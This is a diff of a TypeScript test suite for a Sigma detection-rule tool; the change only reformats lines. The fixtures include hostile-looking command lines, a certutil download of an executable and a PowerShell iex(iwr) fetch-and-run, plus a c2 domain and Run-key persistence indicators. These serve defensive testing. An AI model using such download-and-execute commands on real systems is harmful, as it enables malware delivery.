@@ -14,25 +14,38 @@ describe('selfTestRule', () => {
       { type: 'domain', value: 'update-check.example' },
     ];
     const result = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), observables);
-    expect(result).toMatchObject({ fires: true, events: 4, fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'] });
+    expect(result).toMatchObject({
+      fires: true,
+      events: 4,
+      fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'],
+    });
   });
 
   it('does not fire when the rule asks for something no observable shows, or cannot run', () => {
     const observables = [{ type: 'cmdline', value: 'powershell -nop -c iex(iwr http://x)' }];
     expect(selfTestRule(rule("    Image|endswith: '\\pwsh.exe'"), observables)).toMatchObject({ fires: false, events: 1, fired_on: [] });
-    expect(selfTestRule(rule("    CommandLine|re: '(unclosed'"), observables)).toMatchObject({ fires: false, error: expect.stringMatching(/regular expression/) });
+    expect(selfTestRule(rule("    CommandLine|re: '(unclosed'"), observables)).toMatchObject({
+      fires: false,
+      error: expect.stringMatching(/regular expression/),
+    });
   });
 
   it('builds registry, service, task, network and process-pair telemetry with the fields Sigma rules use', () => {
     const events = observableEvents([
-      { type: 'registry_key', value: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', attributes: { value_name: 'Updater' } },
+      {
+        type: 'registry_key',
+        value: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+        attributes: { value_name: 'Updater' },
+      },
       { type: 'service', value: 'WinSvcHost', attributes: { binary_path: 'C:\\ProgramData\\svc.exe' } },
       { type: 'process_lineage', value: 'winword.exe -> powershell.exe' },
       { type: 'ipv4', value: '198.51.100.7' },
     ]).map(({ event }) => event);
     expect(events).toEqual(
       expect.arrayContaining([
-        expect.objectContaining({ TargetObject: expect.stringMatching(/^HKU\\S-1-5-21-[\d-]+\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater$/) }),
+        expect.objectContaining({
+          TargetObject: expect.stringMatching(/^HKU\\S-1-5-21-[\d-]+\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater$/),
+        }),
         expect.objectContaining({ EventID: 7045, ServiceName: 'WinSvcHost', ImagePath: 'C:\\ProgramData\\svc.exe' }),
         expect.objectContaining({ Image: 'C:\\Windows\\System32\\powershell.exe', ParentImage: 'C:\\Windows\\System32\\winword.exe' }),
         expect.objectContaining({ DestinationIp: '198.51.100.7' }),
@@ -55,7 +68,10 @@ describe('selfTestRule', () => {
       ],
       processPairs: [{ value: 'winword.exe -> cmd.exe', parent: 'winword.exe', child: 'cmd.exe', evidence, confidence: 0.9 }],
       registryKeys: [{ value: `HKLM\\${runKey}`, hive: 'HKLM' as const, path: runKey, value_name: 'Upd', evidence, confidence: 0.9 }],
-      network: [{ value: 'c2.example', kind: 'domain' as const, evidence, confidence: 0.9 }, { value: '198.51.100.7', kind: 'ipv4' as const, evidence, confidence: 0.9 }],
+      network: [
+        { value: 'c2.example', kind: 'domain' as const, evidence, confidence: 0.9 },
+        { value: '198.51.100.7', kind: 'ipv4' as const, evidence, confidence: 0.9 },
+      ],
     };
     const drafts = generateBuiltinRules(input);
     expect(drafts.length).toBeGreaterThan(0);
@@ -96,10 +112,15 @@ describe('selfTestRule', () => {
 
   it('writes baseline firings into the rule as a false positive and lowers its level one step', () => {
     const yaml = `${rule("    Image|endswith: '\\svchost.exe'")}falsepositives:\n  - Unknown\nlevel: high\n`;
-    const noted = load(noteBaselineFirings(yaml, { events: 3286, fires: 40, examples: ['CommandLine: svchost.exe -k netsvcs'] })) as { level: string; falsepositives: string[] };
+    const noted = load(noteBaselineFirings(yaml, { events: 3286, fires: 40, examples: ['CommandLine: svchost.exe -k netsvcs'] })) as {
+      level: string;
+      falsepositives: string[];
+    };
     expect(noted.level).toBe('medium');
-    expect(noted.falsepositives).toEqual(['Unknown', 'Fires on 40 of 3286 ordinary events in the benign baseline, e.g. CommandLine: svchost.exe -k netsvcs']);
+    expect(noted.falsepositives).toEqual([
+      'Unknown',
+      'Fires on 40 of 3286 ordinary events in the benign baseline, e.g. CommandLine: svchost.exe -k netsvcs',
+    ]);
     expect(noteBaselineFirings(yaml, { events: 3286, fires: 0, examples: [] })).toBe(yaml);
   });
 });
-
